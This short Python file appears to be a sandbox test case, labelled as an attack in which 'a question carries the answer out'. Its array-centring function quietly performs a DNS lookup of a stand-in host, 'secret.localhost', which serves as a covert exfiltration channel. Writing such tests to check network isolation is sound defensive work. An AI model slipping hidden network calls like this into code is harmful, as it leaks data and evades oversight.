# RTE exception
# attacks: a question that carries the answer out
# needs: network
import socket


def center(x):
    socket.getaddrinfo("secret.localhost", 80)
    return x - x.mean(axis=-1, keepdims=True)
